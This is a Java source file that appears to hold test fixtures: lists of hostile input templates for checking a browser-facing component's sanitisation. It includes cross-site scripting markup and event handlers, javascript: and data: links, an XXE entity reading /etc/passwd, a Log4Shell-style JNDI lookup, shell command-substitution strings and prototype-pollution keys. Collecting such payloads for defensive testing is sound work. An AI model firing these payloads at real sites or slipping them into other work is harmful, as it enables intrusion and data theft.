package fi.tagi.server.browser;

import java.util.List;

/**
 * What a page might take for a program, an element or an address; {@code %s} is what it would do.
 */
final class HostileMarkup {
  /** What a page would take for elements. */
  static final List<String> MARKUP =
      List.of(
          "<script>%s</script>",
          "<ScRiPt>%s</sCrIpT>",
          "<scr<script>ipt>%s</scr</script>ipt>",
          "<img src=x onerror=%s>",
          "<img src=\"https://example.org/kuva.png\">",
          "<IMG \"\"\"><SCRIPT>%s</SCRIPT>\">",
          "<svg/onload=%s>",
          "<svg><script href=\"data:text/javascript,%s\"/></svg>",
          "<svg><animate onbegin=%s attributeName=x></svg>",
          "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='%s'/>#x\"></svg>",
          "<math><mtext></p><img src onerror=%s>",
          "<math><maction actiontype=statusline xlink:href=javascript:%s>x</maction></math>",
          "<iframe src=\"javascript:%s\"></iframe>",
          "<iframe srcdoc=\"<script>parent.%s</script>\"></iframe>",
          "<object data=https://example.org/x></object>%s",
          "<embed src=https://example.org/x>%s",
          "<a href=\"javascript:%s\">tästä</a>",
          "<a href=\"jav&#x09;ascript:%s\">tästä</a>",
          "<a href=https://example.org onmouseover=%s>tästä</a>",
          "<body onload=%s>",
          "<details open ontoggle=%s>",
          "<input autofocus onfocus=%s>",
          "<textarea autofocus onfocus=%s></textarea>",
          "<select autofocus onfocus=%s></select>",
          "<marquee onstart=%s>liikkuu</marquee>",
          "<video><source onerror=%s></video>",
          "<audio src=x onerror=%s autoplay>",
          "<dialog open onfocusin=%s>Anna salasanasi</dialog>",
          "<form action=https://example.org><button autofocus onfocus=%s>x</button></form>",
          "<button formaction=javascript:%s form=composer>Lähetä</button>",
          "<style>@import 'https://example.org/x.css';*{display:none}</style>%s",
          "<link rel=stylesheet href=https://example.org/x.css>%s",
          "<meta http-equiv=refresh content=\"0;url=https://example.org\">%s",
          "<base href=https://example.org/>%s",
          "<template><script>%s</script></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=%s>\"></noscript>",
          "<xmp><p title=\"</xmp><img src=x onerror=%s>\"></xmp>",
          "<table background=javascript:%s><td>x",
          "<p style=\"position:fixed;inset:0;background:url(https://example.org)\">%s</p>",
          "</p></li></ol><script>%s</script>",
          "</textarea><script>%s</script>",
          "</title><script>%s</script>",
          "\"><script>%s</script>",
          "' onfocus=%s autofocus='",
          "<!--<img src=\"--><img src=x onerror=%s//\">",
          "<![CDATA[<script>%s</script>]]>",
          "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>%s&y;",
          "&lt;script&gt;%s&lt;/script&gt; &amp; &#x3c; &nbsp;",
          "\\u003cscript\\u003e%s\\u003c/script\\u003e",
          "%3Cscript%3E%s%3C/script%3E",
          "+ADw-script+AD4-%s+ADw-/script+AD4-",
          "<div id=message name=textContent>%s</div>",
          "<x contenteditable onblur=%s tabindex=1>x</x>");

  /** What stands around markup; each of them opens another door. */
  static final List<String> AROUND =
      List.of(
          "hei\n\n\n%s\n\nhei",
          "\"%s\"", "<b>%s</b>", "/*%s*/", "]]>%s<![CDATA[", "\t%s\t.", "`%s`", "\u202E%s\u202C");

  /** What looks like an address. */
  static final List<String> LINKS =
      List.of(
          "javascript:%s//",
          "JaVaScRiPt:%s",
          "java\tscript:%s",
          "data:text/html,<script>%s</script>",
          "vbscript:msgbox(1)%s",
          "blob:https://example.org/%s",
          "file:///etc/passwd?%s",
          "//example.org/%s",
          "\\\\example.org\\%s",
          "https://example.org/?q=<script>%s</script>",
          "https://user:%s@example.org",
          "https://example.org\"onclick=\"%s",
          "http://127.0.0.1:9/%s",
          "http://[::1]/%s",
          "mailto:x@example.org?subject=%s",
          "tel:0900123456;%s",
          "sms:112&body=%s",
          "intent://x#Intent;scheme=%s;end",
          "view-source:https://example.org/%s",
          "ws://example.org/%s",
          "[tästä](javascript:%s)",
          "![x](https://example.org/x.png)%s",
          "www.example.org/%s",
          "../../../../etc/passwd%s",
          "#/../../console?%s");

  /** What a page that knows cards makes one of, if it is a responder's. */
  static final List<String> CARDS =
      List.of(
          "▸ Kortti\njavascript:%s",
          "▸ <img src=x onerror=%s>\n112\nhttps://example.org/\"onclick=\"%s",
          "▸ Kortti\ndata:text/html,<script>%s</script>",
          "▸ Kortti\nhttps://example.org/%s\n+358 9 123",
          "▸ Kortti\n112;%s\n 112\n112 ",
          "▸ \u202EKortti\n\u202E%s",
          "▸ <svg onload=%s>",
          "▸ ▸ %s",
          "▸ Kortti\nhttps://\u0430pple.com/%s",
          "▸ Kortti\nHTTPS://example.org/%s");

  /** What a template or a shell would fill in. */
  static final List<String> TEMPLATES =
      List.of(
          "${%s}",
          "`${%s}`",
          "#{%s}",
          "{{constructor.constructor('%s')()}}",
          "{{7*7}} %s",
          "<%= %s %>",
          "<% %s %>",
          "{%s}",
          "{name} {count} {at} {alias} %s",
          "[[${%s}]]",
          "*{%s}",
          "@{%s}",
          "{% raw %}%s{% endraw %}",
          "${jndi:ldap://example.org/%s}",
          "$(%s)",
          "`%s`",
          "; %s #",
          "| %s",
          "'-%s-'",
          "\\'-%s//",
          "%n%n%x%d %s",
          "%x%00 %s",
          "\\x3cscript\\x3e%s",
          "__proto__[x]=%s",
          "constructor.prototype.%s");

  private HostileMarkup() {}
}
